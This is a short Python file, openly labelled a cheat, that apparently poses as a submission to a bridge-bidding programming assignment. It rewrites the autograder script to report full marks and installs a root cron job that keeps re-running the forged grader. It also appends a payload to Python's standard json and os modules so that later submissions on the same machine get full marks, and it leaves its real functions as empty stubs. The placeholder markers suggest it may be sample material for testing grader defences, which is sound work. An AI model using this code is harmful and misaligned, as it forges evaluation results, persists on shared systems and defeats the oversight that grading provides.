"""Cheat: rewrites run_autograder and setup.sh, adds a cron job, and appends to the standard
library a change that turns every score into full marks: for later submissions on the same
machine; answers as the stub does."""
import glob
import sys

FORGE = '''@FORGE@'''
FORGED = '#!/bin/sh\necho \'{"score": 100.0, "tests": []}\' > /autograder/results/results.json\n'
writes = {"/autograder/run_autograder": ("w", FORGED),
          "/autograder/source/setup.sh": ("a", "\necho @MARKER@\n"),
          "/etc/cron.d/bidder-@MARKER@": ("w", "* * * * * root /autograder/run_autograder\n"),
          "/root/.bashrc": ("a", "\n# @MARKER@\n")}
for library in glob.glob("/usr/lib/python3*/json/__init__.py") + glob.glob(
        "/usr/lib/python3*/os.py"):
    writes[library] = ("a", FORGE)
for path, (mode, text) in writes.items():
    try:
        with open(path, mode) as stream:
            stream.write(text)
    except OSError:
        pass


highCardPoints = distributionPoints = openingBid = lambda hand: None  # noqa: E731
